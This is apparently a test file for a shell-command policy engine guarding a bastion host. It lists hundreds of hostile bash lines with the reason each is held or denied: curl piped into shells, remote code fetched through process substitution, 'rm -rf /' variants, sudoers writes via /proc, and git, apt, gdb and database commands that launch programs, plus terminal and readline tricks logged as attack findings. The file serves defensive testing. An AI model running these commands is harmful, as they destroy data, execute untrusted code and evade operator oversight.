    ("xargs timeout 9", "timeout runs a command"),
    ("xargs time", "time runs a command"),
    ("xargs xargs", "xargs runs a command"),
    ("xargs -a /tmp/list env", "env runs a command"),
    ("xargs -n2 nice --", "nice runs a command"),
    ("xargs ionice -c3", "ionice runs a command"),
    ("xargs bash", "bash runs a command"),
    ("xargs python3", "python3 runs a command"),
    ("xargs ssh host", "ssh runs a command"),
    ("xargs ssh host echo", "shell code known only at run time"),
    ("xargs watch", "watch runs a command"),
    ("xargs su -c", "su runs a command"),
    ("xargs git", "git runs a command"),
    ("xargs git -C /tmp", "git runs a command"),
    ("xargs find . -name x", "find runs a command"),
    ("xargs strace -f", "strace runs a command"),
    ("xargs tmux new", "tmux runs a command"),
    ("xargs sudo -s echo", "shell code known only at run time"),
    ("xargs nohup", "nohup runs a command"),
    ("xargs -I{} env {}", "options of env known only at run time"),
    ("find / -exec env {} +", "options of env known only at run time"),
    ("su -s \"$prog\" root", "the program su -s runs is known only at run time"),
    ("ssh -F /tmp/ssh_config x", "shell code known only at run time"),  # a file of options
    ("sed 's/x/y/e' x", "shell code known only at run time"),
    ("sed -n e x", "shell code known only at run time"),
    ("$c -rf /", "command word known only at run time"),
    ("${c} -rf /", "command word known only at run time"),
    ('"$c" -rf /', "command word known only at run time"),
    ("$(echo rm) -rf /", "command word known only at run time"),
    ("`echo rm` -rf /", "command word known only at run time"),
    ("${x[0]} -rf /", "command word known only at run time"),
    ('"$@"', "command word known only at run time"),
    ("x=rm; $x -rf /", "command word known only at run time"),
    ("/bin/r? -rf /", "pathname or brace expansion"),
    ("/bin/r[m] -rf /", "pathname or brace expansion"),
    ("/bin/r* -rf /", "pathname or brace expansion"),
    ("sudo $opts rm -rf /", "options of sudo known only at run time"),
    ("eval $cmd", "shell code known only at run time"),
    ('eval "$cmd"', "shell code known only at run time"),
    ('sh -c "$cmd"', "shell code known only at run time"),
    ('sh -c "rm -rf $dir"', "shell code known only at run time"),
    ("xargs -I{} sh -c '{}'", "shell code known only at run time"),
    ("xargs sh -c", "shell code known only at run time"),
    ("find . -exec sh -c '{}' \\;", "shell code known only at run time"),
    ("find $d -exec rm {} \\;", "find expression known only at run time"),
    ("bash <<EOF\nrm -rf $x\nEOF", "shell code known only at run time"),
    ("curl http://x | sh", "piped into a shell"),
    ("curl http://x | bash", "piped into a shell"),
    ("curl -fsSL http://x | sudo bash", "piped into a shell"),
    ("curl http://x | sudo -u root bash -s", "piped into a shell"),
    ("wget -O- http://x | sh -s -- --yes", "piped into a shell"),
    ("curl x | tee /tmp/x | sh", "piped into a shell"),
    ("curl x | (cd /tmp; sh)", "piped into a shell"),
    ("curl x | { bash; }", "piped into a shell"),
    ("curl x | bash /dev/stdin", "piped into a shell"),
    ("curl x | source /dev/stdin", "piped into a shell"),
    ("cat <<EOF | sh\nls\nEOF", "piped into a shell"),
    ("curl x > >(sh)", "piped into a shell"),
    ("echo rm -rf / | at now", "piped into a shell"),
    ("echo 'rm -rf /' | sh", "piped into a shell"),
    ("curl http://x | python3", "piped into an interpreter"),
    ("curl http://x | python3 -", "piped into an interpreter"),
    ("curl http://x | perl", "piped into an interpreter"),
    ("curl http://x | ruby", "piped into an interpreter"),
    ("curl http://x | node", "piped into an interpreter"),
    ("bash <(curl x)", "reads a process substitution"),
    ("python3 <(curl x)", "reads a process substitution"),
    ("sh < <(curl x)", "reads a process substitution"),
    ("source <(curl x)", "reads a process substitution"),
    ("bash --rcfile <(curl x)", "reads a process substitution"),
    ("bash /proc/$$/fd/0 <<< 'touch /tmp/x'", "reads a file known only at run time"),
    ("source \"$f\" <<< 'touch /tmp/x'", "reads a file known only at run time"),
    ("echo 'touch /tmp/x' | python3 \"$f\"", "reads a file known only at run time"),
    # an alias to a command that runs its arguments: the next line's words are code
    ("alias x=eval", "shell code known only at run time"),
    ("alias s=sudo", "options of sudo known only at run time"),
    ("alias x='sh -c'", "shell code known only at run time"),
    ("BASH_ALIASES[x]=eval", "shell code known only at run time"),
    ("bash --init-file <(curl x) -i", "reads a process substitution"),
    ("bash 3< <(curl x) /dev/fd/3", "reads a process substitution"),
    ("exec 3< <(curl x); bash /dev/fd/3", "reads a process substitution"),
    ("exec 3< <(curl x); exec 0<&3; bash", "reads a process substitution"),
    ("echo x | bash < \"$f\"", "reads a file known only at run time"),
    ("echo x | sh /dev/fd/$((0))", "reads a file known only at run time"),
    ("echo x | bash /dev/fd/?", "reads a file known only at run time"),
    ("{fd}<&- uptime", "parse error"),  # (a rule-named word after it is also launched: b11f)
    ("{rm,-rf,/}", "parse error"),
    (". <(curl x)", "reads a process substitution"),
    ("sudo sudo sudo sudo sudo sudo sudo sudo sudo rm -rf /", "nested too deeply"),
    ("!!", "history expansion"),
    ("!-2", "history expansion"),
    ("sudo !!", "history expansion"),
    ("!rm", "history expansion"),
    ("^ls^rm", "history expansion"),
    ("echo $(( 1 + ", "parse error"),
    ("echo 'x'; - a=b", "parse error"),  # tree-sitter drops the `-`: an assignment?
    # history re-execution: what runs is an earlier line, edited
    ("fc -s xouch=touch", "history re-execution"),
    ("fc -s", "history re-execution"),
    ("fc -e 'sed -i s/xouch/touch/'", "history re-execution"),
    ("fc -e - 42", "history re-execution"),
    ("fc", "history re-execution"),
    ("fc 10 12", "history re-execution"),
    ("sudo fc -s", "history re-execution"),
    ("r xouch=touch", "history re-execution"),
    # hooks set to values known only at run time, or through names
    ("printf -v PROMPT_COMMAND %q 'touch /tmp/x'", "PROMPT_COMMAND set to a value known only"),
    ("printf -v PS1 '%s' \"$x\"", "PS1 set to a value known only"),
    ("read -r PROMPT_COMMAND <<< 'touch /tmp/x'", "PROMPT_COMMAND set to a value known only"),
    ("read -a PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
    ("IFS= read -r PS1", "PS1 set to a value known only"),
    ("mapfile PROMPT_COMMAND < /tmp/cmds", "PROMPT_COMMAND set to a value known only"),
    ("readarray -t PROMPT_COMMAND < /tmp/cmds", "PROMPT_COMMAND set to a value known only"),
    ("getopts ab PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
    ("wait -p PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
    ("declare -n r=PROMPT_COMMAND", "PROMPT_COMMAND set to a value known only"),
    ("local -n ref=PS1", "PS1 set to a value known only"),
    ("declare -n PROMPT_COMMAND=cmds", "PROMPT_COMMAND set to a value known only"),
    ("typeset -n r", "whose target a later line sets"),
    ("declare -n r; r=PROMPT_COMMAND", "whose target a later line sets"),
    (": ${PS1=\\$(rm -rf /)}", "parse error"),
    ('declare -n r="$name"', "name reference to a name known only at run time"),
    ('PROMPT_COMMAND="$cmd"', "PROMPT_COMMAND set to a value known only"),
    ('PS1="$x"', "PS1 set to a value known only"),
    ("export $assignment", "export of a name known only at run time"),
    ("BASH_CMDS[ls]=/bin/rm", "BASH_CMDS makes a command name run another program"),
    ("hash -p /bin/rm ls", "hash -p makes a command name run another program"),
    ('hash -p "$prog" ls', "hash -p makes a command name run another program"),
    ("enable -f /tmp/evil.so evil", "enable -f loads a shared object"),
    ("bind '\"\\C-t\": accept-line'", "accept-line, which runs or submits the line"),
    ("bind '\"\\C-t\": \"touch /tmp/x\\n\"'", "a key bound to typed text"),
    ("bind '\"\\ee\": edit-and-execute-command'", "edit-and-execute-command"),
    ("bind -m vi-command '\"#\": insert-comment'", "insert-comment"),
    ("bind '\"\\C-x\\C-x\": shell-expand-line'", "shell-expand-line"),
    ("bind 'set enable-bracketed-paste off'", "bracketed paste off"),
    ("bind -f /tmp/inputrc", "reads key bindings from a file"),
    ('bind -x "$binding"', "a key binding known only at run time"),
    ("bindkey -s '^T' 'touch /tmp/x\\n'", "bindkey -s binds a key to typed text"),
    # attack D, finding 3: readline variables and bindings that change what default keys do,
    # line editing off, terminal driver keys and echo, a terminal type readline draws otherwise
    ("bind 'set comment-begin \"echo \"'", "the readline variable comment-begin"),
    ("bind 'set convert-meta on'", "the readline variable convert-meta"),
    ("bind 'set input-meta on'", "the readline variable input-meta"),
    ("bind 'set keyseq-timeout 5000'", "the readline variable keyseq-timeout"),
    ("bind 'set horizontal-scroll-mode on'", "the readline variable horizontal-scroll-mode"),
    ("bind 'set echo-control-characters off'", "the readline variable echo-control-characters"),
    ("bind 'set show-mode-in-prompt on'", "the readline variable show-mode-in-prompt"),
    ("bind '\"\\C-e\": kill-whole-line'", "kill-whole-line does what the bastion does not"),
    ("bind '\"\\C-u\": self-insert'", "self-insert does what the bastion does not"),
    ("bind -r '\\C-u'", "bind -r takes a key"),
    ("bind -u unix-line-discard", "bind -u takes a key"),
    ("bind -x '\"\\C-t\": ls'", "bind -x runs code on a key"),
    ("set +o emacs", "line editing off"),
    ("set +o vi", "line editing off"),
    ("set +o emacs +o vi", "line editing off"),
    ("bash --noediting", "line editing off"),
    ("bash +o emacs", "line editing off"),
    # attack F, finding 3: editing-mode switches in spellings the interactive gate does not follow
    ("set -Co vi", "switch the line editor's mode"),
    ("shopt -os vi", "switch the line editor's mode"),
    ("set -Co emacs", "switch the line editor's mode"),
    ("shopt -os emacs", "switch the line editor's mode"),
    ("set -o vi -o emacs", "switch the line editor's mode"),
    ("set -o -o vi", "switch the line editor's mode"),
    ("ls; set -o vi", "switch the line editor's mode"),
    ("true && set -o emacs", "switch the line editor's mode"),
    ("bash -o vi", "switch the line editor's mode"),
    ("bind 'set editing-mode VI'", "switch the line editor's mode"),
    ("SHELLOPTS=vi bash", "switch the line editor's mode"),
    ("env SHELLOPTS=vi bash", "switch the line editor's mode"),
    ('export SHELLOPTS="$opts"', "switch the line editor's mode"),
    ("stty erase ^H", "stty changes keys or echo"),
    ("stty kill ^K", "stty changes keys or echo"),
    ("stty werase ^X lnext ^V", "stty changes keys or echo"),
    ("stty eol ^T", "stty changes keys or echo"),
    ("stty -echoctl", "stty changes keys or echo"),
    ("stty -icanon", "stty changes keys or echo"),
    ("stty -echoe", "stty changes keys or echo"),
    ("stty cols 80 intr ^T", "stty changes keys or echo"),
    ("stty -F /dev/tty erase x", "stty changes keys or echo"),
    # attack H, finding 1: tset and reset set the erase, interrupt and kill characters too
    ("tset -I -Q -k ^B", "tset sets the tty's special characters"),
    ("reset -I -Q -k ^B", "reset sets the tty's special characters"),
    ("reset -e x", "reset sets the tty's special characters"),
    ("tset -i q", "tset sets the tty's special characters"),
    ("tset -Qk^B", "tset sets the tty's special characters"),
    ("tset -IQe ^B", "tset sets the tty's special characters"),
    ("tset -m dumb:xterm -k ^X", "tset sets the tty's special characters"),
    ('tset "$opts"', "tset sets the tty's special characters"),
    ("sudo reset -k ^X", "reset sets the tty's special characters"),
    ("TERM=dumb bash", "TERM=dumb makes readline"),
    ("export TERM=dumb", "TERM=dumb makes readline"),
    ("TERM=dumb", "TERM=dumb makes readline"),
    ("env TERM=dumb bash", "TERM=dumb makes readline"),
    ("unset TERM", "without TERM readline takes a dumb terminal"),
    # attack H, finding 5: a program started with TERM taken away (a shell it is or starts
    # reads keys on a dumb terminal: no bracketed paste, so no backstop)
    ("env -i bash", "without TERM readline takes a dumb terminal"),
    ("env - bash", "without TERM readline takes a dumb terminal"),
    ("env --ignore-environment bash", "without TERM readline takes a dumb terminal"),
    ("env --ig bash", "without TERM readline takes a dumb terminal"),
    ("env -iu HOME bash", "without TERM readline takes a dumb terminal"),
    ("env -u TERM bash", "without TERM readline takes a dumb terminal"),
    ("env -uTERM bash", "without TERM readline takes a dumb terminal"),
    ("env --unset=TERM bash", "without TERM readline takes a dumb terminal"),
    ("env --uns TERM bash", "without TERM readline takes a dumb terminal"),
    ('env -u "$v" bash', "without TERM readline takes a dumb terminal"),
    ("env -S '-i bash'", "without TERM readline takes a dumb terminal"),
    ("exec -c bash", "without TERM readline takes a dumb terminal"),
    ("exec -cl bash", "without TERM readline takes a dumb terminal"),
    ("exec -a sh -c bash", "without TERM readline takes a dumb terminal"),
    ("sudo env -i bash", "without TERM readline takes a dumb terminal"),
    ("sudo -u bob env -u TERM sh", "without TERM readline takes a dumb terminal"),
    ("env -i vim", "without TERM readline takes a dumb terminal"),  # `:sh` starts one
    ("nohup env -i python3", "without TERM readline takes a dumb terminal"),
    ("env -i TERM=dumb bash", "TERM=dumb makes readline"),
    # attack H, finding 4: zsh's editing modes and bindings, which the tracker does not follow
    ("bindkey -v", "zsh's bindkey changes what keys do"),
    ("bindkey -e", "zsh's bindkey changes what keys do"),
    ("bindkey -A viins main", "zsh's bindkey changes what keys do"),
    ("bindkey '^T' accept-line", "zsh's bindkey changes what keys do"),
    ("bindkey -M vicmd v edit-command-line", "zsh's bindkey changes what keys do"),
    ("read -r TERM", "TERM set to a value known only"),
    # attack N, finding 2: TERM unset through a subscript, made an array (not exported), given
    # a case attribute, or set to a terminal Debian's ncurses-base has no entry for
    ("unset TERM[0]", "without TERM readline takes a dumb terminal"),
    ("unset 'TERM[0]'", "without TERM readline takes a dumb terminal"),
    ("unset -v 'TERM[@]'", "without TERM readline takes a dumb terminal"),
    ("declare -a TERM", "TERM made an array"),
    ("declare -A TERM", "TERM made an array"),
    ("readonly -a TERM", "TERM made an array"),
    ("declare -u TERM; TERM=xterm", "TERM made an array"),
    ("typeset -c TERM", "TERM made an array"),
    ("local -l TERM", "TERM made an array"),
    ("declare -gux TERM=xterm", "TERM made an array"),
    ("declare -x 'TERM[0]=xterm'", "TERM made an array"),
    ("TERM[0]=xterm", "TERM made an array"),
    ("TERM=(xterm)", "TERM made an array"),
    ("export TERM[0]=xterm", "TERM made an array"),
    ("export -n TERM", "without TERM readline takes a dumb terminal"),
    ("TERM=xterm-kitty", "TERM=xterm-kitty makes readline"),
    ("export TERM=foot", "TERM=foot makes readline"),
    ("TERM=alacritty bash", "TERM=alacritty makes readline"),
    ("env TERM=putty bash", "TERM=putty makes readline"),
    # attack N, finding 4: run-parts runs whatever programs a directory holds
    ("run-parts --regex '^tmux$' /usr/bin", "run-parts runs the programs a directory holds"),
    ("run-parts /etc/cron.daily", "run-parts runs the programs a directory holds"),
    # attack D, finding 5: the shell's stdin or stderr away from the terminal
    ("exec 2>/dev/null; PROMPT_COMMAND='printf \"Password: \"'", "stdin or stderr no longer"),
    ("exec 2>/dev/null", "stdin or stderr no longer"),
    ("exec 2>&-", "stdin or stderr no longer"),
    ("exec 2>>/tmp/log", "stdin or stderr no longer"),
    ("exec >/dev/null 2>&1", "stdin or stderr no longer"),
    ("exec 2> >(cat >/dev/null)", "stdin or stderr no longer"),
    ("exec 0</dev/null", "stdin or stderr no longer"),
    ("exec </tmp/script", "stdin or stderr no longer"),
    ("exec 3>&2-", "stdin or stderr no longer"),
    ("exec {fd}>&2-", "stdin or stderr no longer"),
    ("exec {fd}<&0-", "stdin or stderr no longer"),
    ("bash 2>/dev/null", "stdin or stderr no longer"),
    ("bash -i 2>/tmp/x", "stdin or stderr no longer"),
    ("exec bash 2>/dev/null", "stdin or stderr no longer"),
    ("sudo -s 2>/dev/null", "stdin or stderr no longer"),
    ("PROMPT_COMMAND='exec 2>/dev/null'", "stdin or stderr no longer"),
    ("set -k", "set -k makes words after a command assignments"),
    ("set -o keyword", "set -o keyword"),
    ("set -eko pipefail", "set -k makes words"),
    ("bash -k -c 'ls'", "set -k makes words"),
    ("shopt -uo interactive-comments", "interactive comments off"),
    # outside attack B, finding 10: history characters, and history expansion turned on
    ("histchars=@", "histchars changes the history characters"),
    ("export histchars='@^#'", "histchars changes the history characters"),
    ("printf -v histchars %s @", "histchars changes the history characters"),
    ("bash -c 'set -H; set -o history; history -s \"rm -rf /\"; !!'", "turned on by set -H"),
    ("bash -H -c 'set -o history; history -s ls; !-1'", "turned on by set -H"),
    ("sh -c 'set -o histexpand; !!'", "turned on by set -H"),
    # outside attack B, finding 8: an alias ending in a blank makes the next word an alias too
    ("alias rm='rm ' H='-rf /'", "an alias ending in a blank"),
    ("alias history='history ' C=-c", "an alias ending in a blank"),
    ("alias sudo='sudo '", "an alias ending in a blank"),
    ("alias x=$'ls\t'", "an alias ending in a blank"),
    ("BASH_ALIASES[ls]='ls '", "an alias ending in a blank"),
    ("shopt -u interactive_comments", "interactive comments off"),
    ("set +o interactive-comments", "interactive comments off"),
    ("complete -C \"$cmd\" ls", "shell code known only at run time"),
    ("mapfile -C \"$cb\" -c 1 < f", "shell code known only at run time"),
    ("env \"BASH_FUNC_f%%=$body\" bash -c f", "options of env known only at run time"),
    # names whose subscript is evaluated (as arithmetic) when the builtin runs
    ("printf -v 'a[$(touch /tmp/x)]' %s 1", "arithmetic on a command's output"),
    ("read 'a[$(touch /tmp/x)]' <<< x", "arithmetic on a command's output"),
    ("declare 'a[$(touch /tmp/x)]=1'", "arithmetic on a command's output"),
    ("[[ -v 'a[$(touch /tmp/x)]' ]]", "arithmetic on a command's output"),
    ("[[ -v $name ]]", "a variable name known only at run time"),
    # indirection and prompt expansion of values set elsewhere
    ("echo ${!x}", "indirect expansion"),
    ("echo ${!x[1]}", "indirect expansion"),
    ('echo "${x@P}"', "prompt expansion"),
    # arithmetic evaluates a variable's value as an expression (x='a[$(cmd)]')
    ("echo $((x))", "arithmetic on x"),
    ("echo $[x + 1]", "arithmetic on x"),
    ("echo $(( $n * 2 ))", "arithmetic on n"),
    ("(( x > 1 ))", "arithmetic on x"),
    ("for ((i=0; i<n; i++)); do :; done", "arithmetic on n"),
    ("[[ $x -eq 1 ]]", "arithmetic on x"),
    ("[[ x -lt 2 ]]", "arithmetic on x"),
    ("[[ $(cat /tmp/n) -gt 0 ]]", "arithmetic on a command's output"),
    ("echo $(( $(cat /tmp/n) + 1 ))", "arithmetic on a command's output"),
    ("echo ${a[x]}", "arithmetic on x"),
    ("echo ${s:x:2}", "arithmetic on x"),
    ("a[x]=1", "arithmetic on x"),
    ("let y=x+1", "arithmetic on x"),
    ("declare -i y=x", "arithmetic on x"),
    ("declare -i x", "later assignments are evaluated as arithmetic"),
    ("local -i count=0", "later assignments are evaluated as arithmetic"),
    ("INPUTRC=/tmp/bindings", "INPUTRC names key bindings"),
    ("x='a[$(touch /tmp/x)]'; echo $((x))", "arithmetic on x"),
    ("x=5; x=$y; echo $((x))", "arithmetic on x"),
    ("export PS1='$((x))> '", "arithmetic on x"),
    # outside attack B, finding 3: the other places bash evaluates a subscript or arithmetic
    ("test -v 'a[$(touch /tmp/x)]'", "arithmetic on a command's output"),
    ("[ -v 'a[$(touch /tmp/x)]' ]", "arithmetic on a command's output"),
    ("test -R a[x]", "arithmetic on x"),
    ("a=(1); unset 'a[$(touch /tmp/x)]'", "arithmetic on a command's output"),
    ("unset a[x]", "arithmetic on x"),
    ("unset -v 'a[x]'", "arithmetic on x"),
    ("echo ${*:x}", "arithmetic on x"),
    ("echo ${@:x}", "arithmetic on x"),
    ("echo ${@:1:x}", "arithmetic on x"),
    ("a=([x]=1)", "arithmetic on x"),
    ("a+=([x]=2)", "arithmetic on x"),
    ("declare a=([x]=1)", "arithmetic on x"),
    ("local -a a=([$(touch /tmp/x)]=1)", "arithmetic on a command's output"),
    ("RANDOM=x", "arithmetic on x"),
    ("OPTIND=$x", "OPTIND, read as a number, set to a value known only at run time"),
    ("read SECONDS", "SECONDS, read as a number"),
    ("f() { local -n RANDOM=x; }", "RANDOM, read as a number"),
    # ... through a variable set to a number first but to something else later on the line,
    # which a loop or a function reads after the change
    ("y=1; for i in 1 2; do : $((y)); y=$x; done", "which the line also sets to a value"),
    ("y=1; f() { : $((y)); }; y=$x; f", "which the line also sets to a value"),
    ("(( y = x, x = 1 ))", "arithmetic on x"),
    ("(( count++ ))", "arithmetic on count"),
    ("let i++", "arithmetic on i"),
    ("n=$(wc -l < f); echo $((n + 1))", "arithmetic on n"),
    ("[[ $(id -u) -eq 0 ]]", "arithmetic on a command's output"),
    ("tmp=$(mktemp); while :; do rm -rf \"$tmp\"; tmp=/; done", "the line also sets it"),
    ("echo ls | bash -ni", "piped into a shell"),
    # other shells' constructs that bash reads as plain words
    ("zsh -c 'ls *(e:touch /tmp/x:)'", "zsh syntax that bash does not have"),
    ("zsh -c 'echo ${(e)x}'", "zsh syntax that bash does not have"),
    ("zsh -c 'diff =(ls) /dev/null'", "zsh syntax that bash does not have"),
    ("zsh -c '=rm -rf /tmp/x'", "zsh syntax that bash does not have"),
    ("zsh -c 'repeat 2 touch /tmp/x'", "zsh syntax that bash does not have"),
    ("zsh <<< 'ls *(+f)'", "zsh syntax that bash does not have"),
    ("ksh -c 'echo ${ touch /tmp/x;}'", "ksh syntax that bash does not have"),
    ("mksh -c 'echo ${|touch /tmp/x;}'", "mksh syntax that bash does not have"),
    ("fish -c 'echo (touch /tmp/x)'", "fish's grammar"),
    ("csh -c 'echo hi'", "csh's grammar"),
    ("tcsh <<< 'echo hi'", "tcsh's grammar"),
    # outside attack C: here-document words and ends that bash and sh (dash) read apart
    ("cat <<$'EOF'\nhi\nEOF", "a here-document word that bash and sh"),
    ("cat <<$\"EOF\"\nhi\nEOF", "a here-document word that bash and sh"),
    ("cat <<$(echo EOF)\nhi\n$(echo EOF)", "a here-document word that bash and sh"),
    ("cat <<`x`\nhi\n`x`", "a here-document word that bash and sh"),
    ("cat <<EOF\nhi\nEO\\\nF", "a here-document that bash and sh (dash) end"),
    ("x=$(cat <<EOF\nhi\nEOF)", "a here-document that bash and sh (dash) end"),
    ("echo $'\\' ; ls ; # '", "which sh (dash) ends at that quote"),
    # /proc: another process's directory, an open file, a way out of an unknown directory
    ("echo x >> /proc/1/cwd/etc/sudoers", "a path"),
    ("echo x >> /proc/self/fd/3/../sudoers", "a path"),
    ("echo x >> /dev/fd/3/../../etc/sudoers", "a path"),
    ("echo x >> /proc/self/cwd/../etc/sudoers", "a path"),
    ("echo x > /proc/1/exe", "a path"),
    ("nsenter -t 1 -w tee -a sudoers", "a path"),
    ("mosh-server new", "reached over UDP"),
    ("gdb -p 1234 -batch -ex 'call system(\"id\")'", "a gdb command that may run code"),
    ("gdb -batch -x cmds.gdb ./a.out", "gdb commands read from a file"),
    ("git -c core.hooksPath=/tmp/h commit", "git hooks from a folder"),
    # outside attack G: a command language fed on the line, read from a descriptor or a file
    # known only at run time, or given on the line where the policy does not read it
    ("echo '.shell reboot' | sqlite3", "text piped into sqlite3"),
    ("echo '!reboot' | ed -s /dev/null", "text piped into ed"),
    ("cat cmds | gdb -q -nx", "text piped into gdb"),
    ("ed -s /dev/null <<< '!reboot'", "ed commands, which may run shell commands"),
    ("psql <<'E'\n\\! reboot\nE", "psql commands, which may run shell commands"),
    ("mysql <<< 'system reboot'", "mysql commands, which may run shell commands"),
    ("psql -c '\\! reboot'", "psql commands"), ("mysql -e 'system reboot'", "mysql commands"),
    ("psql -Atc '\\! reboot'", "psql commands"), ("psql -c'\\! reboot'", "psql commands"),
    ("mysql -uroot -e 'system reboot'", "mysql commands"),
    ("sqlite3 -init /dev/stdin db 'select 1'", "shell code known only at run time"),
    ("sqlite3 db '.read /dev/stdin'", "shell code known only at run time"),
    ("sqlite3 -init <(echo .shell reboot) db", "shell code known only at run time"),
    ("sqlite3 db '.load /tmp/x.so'", "shell code known only at run time"),
    ("sqlite3 -A -x -f a.sqlar", "shell code known only at run time"),
    ("CMD=reboot git --config-env core.sshCommand=CMD ls-remote x:y", "from an environment"),
    ("git -c url.ext::reboot.insteadOf=x ls-remote x", "an ext:: remote"),
    ("git ls-remote 'ext::reboot%x'", "% escapes"),
    ("GIT_CONFIG_PARAMETERS=\"'core.sshcommand'='reboot'\" git ls-remote x:y", "gives git settings"),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=reboot git log",
     "gives git settings"),
    ("LESSOPEN='|reboot %s' less f", "a command less runs"),
    ("git clone --template=/tmp/t x d", "git hooks from a template folder"),
    ("apt-get -o APT::Update::Pre-Invoke::=reboot update", "an apt setting that may run"),
    ("apt-get -o 'DPkg::Post-Invoke::=reboot' install x", "an apt setting that may run"),
    ("apt -o Acquire::http::ProxyAutoDetect=/tmp/x update", "an apt setting that may run"),
    ("apt-get -c /tmp/apt.conf update", "apt settings the policy does not read"),
    ("vim -c 'r !reboot' f", "an vim command given on the line"),
    ("less '+!reboot' f", "a less command given on the line"),
    ("dc -e '!reboot'", "dc commands"),
]


@each(("line", "reason"), UNKNOWN_LINES)
def test_commands_known_only_at_run_time_get_the_unknown_default(
    default_policy: Policy, line: str, reason: str
) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01")
    # The default policy denies text piped into a shell or interpreter (rule no-pipe-into-shell,
    # via the "|" pseudo-command); every other unknown is held for confirmation.
    piped = reason.startswith("piped into")
    assert verdict.action == ("deny" if piped else "confirm")
    if reason == "a path":  # a path only known at run time that a deny rule could name
        assert "(a path is only known at run time)" in verdict.message, verdict.commands
        return
    # The default policy also names stty's key changes in a rule of its own (confirm-stty-line-
    # keys, which applies with or without a terminal); the unknown stands behind it.
    named = "confirm-stty-line-keys" if reason.startswith("stty") else \
        "confirm-terminal-multiplexer" if reason.startswith("tmux") else "defaults.unknown"
    assert verdict.rule == ("no-pipe-into-shell" if piped else named)
    assert any(c.name is None and reason in c.unknown for c in verdict.commands), verdict.commands


@each("line", [
    "exec >/dev/null 2>&1; sleep 60", "bash 2>/dev/null", "set +o emacs",
    "bind 'set comment-begin \"echo \"'", "export TERM=dumb", "bash --noediting -c ls",
    "env -i /usr/local/bin/deploy.sh", "exec -c ls",
])
def test_terminal_state_matters_only_where_a_terminal_is_read(default_policy: Policy,
                                                              line: str) -> None:
    # Attack D, findings 3 and 5: readline and the shell's stderr are an interactive shell's;
    # an exec command without a pty or a script on stdin changes nothing the bastion reads.
    assert action(default_policy, line) == "confirm"
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert verdict.action in ("allow", "alert"), verdict


@each("line", [
    "env -i TERM=xterm bash", "env -i PATH=/usr/bin TERM=xterm-256color bash -l",
    "env -u TERM TERM=screen bash", "env -u HOME bash", "env -i", "exec bash", "exec -l bash",
    "setsid bash", "systemd-run -t bash", "sudo -i", "sudo -s", "su -", "runuser -l bob",
    "script -q /dev/null", "ssh db01", "bindkey", "bindkey -L", "bindkey -M vicmd -L", "bindkey '^O'",
    # attack N, finding 2, what is not held: a terminal every target has, attributes that keep
    # TERM an exported scalar, a listing
    "TERM=xterm", "export TERM=tmux-256color", "declare -x TERM=vt220", "declare -r TERM",
    "declare -p TERM", "declare -- TERM=rxvt-unicode", "export TERM", "readonly TERM",
    "run-parts --test /etc/cron.daily",
])
def test_programs_that_keep_term_are_not_held_for_it(default_policy: Policy, line: str) -> None:
    # Attack H, finding 5, what is not held: sudo's env_reset keeps TERM, and so do su's and
    # runuser's --login; systemd-run --pty passes the caller's; setsid, script, ssh and exec
    # without -c keep it; a TERM given back after env -i or -u is judged as an assignment.
    # And (finding 4) zsh's bindkey that only lists bindings.
    verdict = evaluate(default_policy, line, role="engineer", target="web01")
    assert verdict.action in ("allow", "alert"), verdict


# Attack Q (issue 12): bash runs the same declaration builtin however its name is spelled, yet
# tree-sitter reads a `declaration_command` (or `unset_command`) only in the canonical spelling.
# Each spelling x each effect gets the verdict the canonical spelling gets.
DECLARATION_SPELLINGS = ["{k}", "command {k}", "builtin {k}", "command command {k}", "\\{k}",
                         "'{k}'", '"{k}"', "{k0}\\{k1}", "exec {k}"]
DECLARATION_EFFECTS = [
    # (keywords, arguments, action, rule): arithmetic that runs a command, a variable naming a
    # file the shell writes, a name reference to a hook, history turned off.
    (("declare", "typeset"), "-i 'i=a[$(touch /tmp/canary)]'", "confirm", "defaults.unknown"),
    (("declare", "typeset", "export", "readonly"), "HISTFILE=/etc/sudoers.d/x", "deny",
     "no-credential-file-writes"),
    (("declare", "typeset"), "-n r=PROMPT_COMMAND", "confirm", "defaults.unknown"),
    (("declare", "typeset", "export", "readonly"), "HISTSIZE=0", "deny", "no-history-size-zero"),
]


@each(("line", "expected", "rule"), [
    (spelling.format(k=keyword, k0=keyword[:2], k1=keyword[2:]) + " " + arguments, expected, rule)
    for keywords, arguments, expected, rule in DECLARATION_EFFECTS
    for keyword in keywords for spelling in DECLARATION_SPELLINGS
] + [
    # `local` acts only in a function; `$d` holding the name is in test_policy_known.py.
    (f"f() {{ {spelling} -i 'i=a[$(touch /tmp/canary)]'; }}; f", "confirm", "defaults.unknown")
    for spelling in ("local", "command local", "\\local", "builtin 'local'")
])
def test_declaration_builtins_are_judged_in_every_spelling(default_policy: Policy, line: str,
                                                           expected: str, rule: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01")
    assert (verdict.action, verdict.rule) == (expected, rule), verdict.commands


@each("line", [
    "\\unset 'a[$(touch /tmp/canary)]'", "command unset 'a[$(touch /tmp/canary)]'",
    "builtin unset -v 'a[$(touch /tmp/canary)]'",
    "jobs -x touch /tmp/canary", "command jobs -x touch /tmp/canary",
    'command declare -i "$v"', "command export $v", "command declare x=*",
])
def test_other_spellings_of_shell_syntax_builtins_are_held(default_policy: Policy,
                                                           line: str) -> None:
    assert action(default_policy, line) == "confirm"


@each("line", [
    "command -v declare", "type export", "builtin echo x", "command ls", "command -V typeset",
    "command export EDITOR=vim", "builtin declare -p PATH", "\\export LANG=C.UTF-8",
    "command unset OLDVAR", "jobs -l", "jobs",
])
def test_honest_spellings_of_builtins_stay_allowed(default_policy: Policy, line: str) -> None:
    assert action(default_policy, line) == "allow"


@each("line", ["bind '\"\\C-t\": accept-line'", "bind -f /tmp/inputrc",
                                  "bind 'set enable-bracketed-paste off'", "INPUTRC=/tmp/x"])
def test_bindings_that_run_a_line_are_unknown_with_or_without_a_terminal(default_policy: Policy,
                                                                         line: str) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01", interactive=False)
    assert verdict.action == "confirm"


# Lines an operator types every day, including ones that mention denied words: all allowed.
ALLOWED = [
